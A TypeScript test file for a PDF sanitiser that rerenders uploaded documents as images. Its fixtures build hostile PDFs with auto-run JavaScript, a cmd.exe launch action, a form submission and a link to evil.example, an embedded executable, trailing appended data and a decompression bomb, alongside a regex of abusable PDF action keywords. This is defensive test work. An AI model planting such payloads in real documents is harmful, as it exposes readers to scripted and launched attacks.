import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { smallPdf } from '@/lib/testing/small-pdf'
import { drawPdf } from './draw-pdf'

const limits = { pages: 20, seconds: 120, bytes: 15 * 1024 * 1024 }

async function drawn(bytes: Buffer) {
  const made = await drawPdf(bytes, limits)
  if (made.problem) throw new Error(made.problem)
  return made.bytes
}
/** What a reader could act on. Our own document is written without compression of its objects, so its words are there to be found. */
const acts =
  /JavaScript|\/JS\b|OpenAction|\/AA\b|\/Launch|EmbeddedFile|Filespec|AcroForm|\/XFA|\/Annots?\b|\/URI\b|GoTo|SubmitForm|RichMedia|ObjStm|Encrypt/

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const harmful: [string, Buffer][] = [
  ['a script when it is opened', smallPdf({ catalog: `/OpenAction${script}` })],
  ['a script by name', smallPdf({ catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` })],
  ['a script when a page is turned', smallPdf({ page: `/AA<</O${script}>>` })],
  ['a program to launch', smallPdf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' })],
  ['a form that sends itself', smallPdf({ catalog: '/OpenAction<</S/SubmitForm/F(https://evil.example)>>' })],
  [
    'a link',
    smallPdf({ page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI(https://evil.example)>>>>]' }),
  ],
  [
    'a file inside',
    smallPdf({
      catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 10 0 R>>>>]>>>>',
      objects: '10 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj',
    }),
  ],
  ['another file behind its end', Buffer.concat([smallPdf(), Buffer.from('PK\x03\x04<script>alert(1)</script>')])],
]

test.each(harmful)('of %s only the page is left', async (_name, bytes) => {
  const kept = await drawn(bytes)
  const text = kept.toString('latin1')
  expect(text).toMatch(/^%PDF-/)
  expect(text).not.toMatch(acts)
  expect(text).not.toContain('evil.example')
  expect(text).not.toContain('PK\x03\x04')
  expect(text.match(/\/Subtype \/Image/g)).toHaveLength(1)
})

test('each page is there, of its size, and the same file gives the same bytes', async () => {
  const bytes = smallPdf({ pages: 3, size: [612, 792] })
  const kept = await drawn(bytes)
  const text = kept.toString('latin1')
  expect(text.match(/\/MediaBox \[0 0 612 792\]/g)).toHaveLength(3)
  expect((await drawn(bytes)).equals(kept)).toBe(true)
  expect((await drawn(smallPdf({ pages: 3, size: [612, 792], words: 'Another' }))).equals(kept)).toBe(false)
})

test('what somebody typed into a form stays to be read', async () => {
  const field = (value: string) =>
    smallPdf({
      catalog:
        '/AcroForm<</Fields[10 0 R]/DR<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>/DA(/F1 12 Tf)>>',
      page: '/Annots[10 0 R]',
      objects: `10 0 obj<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/F 4/DA(/F1 12 Tf 0 g)/Rect[10 60 190 90]/V(${value})>>endobj`,
    })
  expect((await drawn(field('Ada'))).equals(await drawn(field('Grace')))).toBe(false)
})

async function sealedPdf(): Promise<Buffer> {
  const document = new PDFDocument({ userPassword: 'x', pdfVersion: '1.7' })
  const parts: Buffer[] = []
  document.on('data', (part: Buffer) => parts.push(part))
  const done = new Promise((resolve) => document.on('end', resolve))
  document.text('nobody reads this').end()
  await done
  return Buffer.concat(parts)
}

test('what cannot be drawn is not kept, and why is said', async () => {
  expect(await drawPdf(await sealedPdf(), limits)).toEqual({ problem: 'fileLocked' })
  expect(await drawPdf(smallPdf({ pages: 21 }), limits)).toEqual({ problem: 'filePages' })
  expect(await drawPdf(Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'), limits)).toEqual({
    problem: 'fileDamaged',
  })
  expect(await drawPdf(smallPdf(), { ...limits, seconds: 0 })).toEqual({ problem: 'fileDamaged' })
})

test('a page as large as a wall is drawn small', async () => {
  expect((await drawn(smallPdf({ size: [14_400, 14_400] }))).length).toBeLessThan(1_000_000)
})

/** One picture of noise on each page. */
async function noisyPdf(pages: number): Promise<Buffer> {
  const side = 600
  const noise = Buffer.from(
    Array.from({ length: side * side }, (_, at) => (Math.imul(at + 1, 2_654_435_761) >>> 13) & 255),
  )
  const jpeg = await sharp(noise, { raw: { width: side, height: side, channels: 1 } })
    .jpeg()
    .toBuffer()
  const image = `/Subtype/Image/Width ${side}/Height ${side}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode`
  const draw = '288 0 0 288 0 0 cm /I Do'
  const pdf = smallPdf({
    ...{ pages, size: [288, 288] },
    objects: [
      `10 0 obj<</Type/XObject${image}/Length ${jpeg.length}>>stream\n${jpeg.toString('latin1')}\nendstream endobj`,
      `11 0 obj<</Length ${draw.length}>>stream\n${draw}\nendstream endobj`,
    ].join('\n'),
  })
  const shown = pdf
    .toString('latin1')
    .replace('/Contents 4 0 R', '/Contents 11 0 R')
    .replace('/Resources<<', '/Resources<</XObject<</I 10 0 R>>')
  return Buffer.from(shown, 'latin1')
}

test('what is kept has a largest size: of many pages each is drawn coarser, and keeps its measures', async () => {
  const given = await noisyPdf(8)
  const free = await drawn(given)
  expect(free.length).toBeGreaterThan(8 * 100_000)
  const bytes = free.length / 6
  const made = await drawPdf(given, { ...limits, bytes })
  if (made.problem) throw new Error(made.problem)
  expect(made.bytes.length).toBeLessThan(bytes + 8_000)
  const measures = (pdf: Buffer) => pdf.toString('latin1').match(/\/MediaBox \[[\d. ]+\]/g)
  expect(measures(made.bytes)).toEqual(measures(free))
  expect(measures(free)).toHaveLength(8)
})

/** Words after so many spaces, which take a few kilobytes until they are unpacked. */
function swelling(bytes: number): Buffer {
  const words = 'BT /F1 18 Tf 10 40 Td (A letter) Tj ET'
  const packed = deflateSync(Buffer.concat([Buffer.alloc(bytes, ' '), Buffer.from(words)]))
  const text = smallPdf().toString('latin1')
  const stream = `<</Filter/FlateDecode/Length ${packed.length}>>stream\n${packed.toString('latin1')}\nendstream`
  return Buffer.from(
    text.replace(/<<\/Length \d+>>stream\n.*\nendstream/, () => stream),
    'latin1',
  )
}

test('a stream that swells gets no more memory than a document is given', async () => {
  const blank = await drawn(smallPdf({ words: '' }))
  const large = swelling(64 * 1024 * 1024)
  const whole = await drawn(large)
  expect(whole.equals(await drawn(smallPdf()))).toBe(true)
  expect(whole.equals(blank)).toBe(false)
  const little = 48 * 1024 * 1024
  expect((await drawPdf(smallPdf({ words: '' }), limits, little)).problem).toBeUndefined()
  const cut = await drawPdf(large, limits, little)
  expect(cut.problem ?? cut.bytes.equals(whole)).not.toBe(true)
})
